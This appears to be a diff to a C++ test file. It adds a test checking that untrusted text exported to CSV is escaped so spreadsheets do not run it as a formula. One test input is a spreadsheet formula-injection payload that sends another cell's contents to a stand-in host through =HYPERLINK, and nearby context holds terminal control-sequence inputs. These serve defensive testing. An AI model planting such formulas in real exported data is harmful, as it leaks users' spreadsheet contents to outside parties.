@@ -247,6 +247,24 @@ TEST(Format, ForeignTextBeginsNoLineOfItsOwn) {
 }
 
 // JSON lets C1 controls and marks of reading direction stand as they are.
+// In a spreadsheet it would be obeyed, and could send the other cells away.
+TEST(Format, ForeignTextInCsvIsNoFormula) {
+  for (const auto& [text, shown] : std::vector<std::pair<std::string, std::string>>{
+           {"=HYPERLINK(\"http://x/?\"&C2)", "'=HYPERLINK(\"\"http://x/?\"\"&C2)"},
+           {"+1", "'+1"},
+           {"-1+1", "'-1+1"},
+           {"@SUM(1)", "'@SUM(1)"},
+           {"\t=1", "\\x09=1"},
+           {"\r=1", "\\x0d=1"},
+           {"a=1", "a=1"},
+           {"", ""}}) {
+    EXPECT_EQ(list({{"A"}, {{text}}}, Format::csv), "\"A\"\n\"" + shown + "\"\n") << text;
+    EXPECT_THAT(show({{"a", text}}, Format::csv), HasSubstr("\"a\",\"" + shown + "\"\n")) << text;
+    EXPECT_EQ(list({{"A"}, {{text}}}, Format::value).find('\''), std::string::npos);
+  }
+  EXPECT_EQ(list({{"A", "B"}, {{std::int64_t{-1}, -0.5}}}, Format::csv), "\"A\",\"B\"\n-1,-0.5\n");
+}
+
 TEST(Format, ForeignTextInJsonMovesNoCursor) {
   const Fields forged{{"tags", RawJson{"[\"\xc2\x9b\x32J\xc2\x85x\xe2\x80\xae\x7f\x1b\xff\"]"}}};
   const std::string shown = "[\"\\u009b2J\\u0085x\\u202e\\u007f\\u001b\xEF\xBF\xBD\"]";
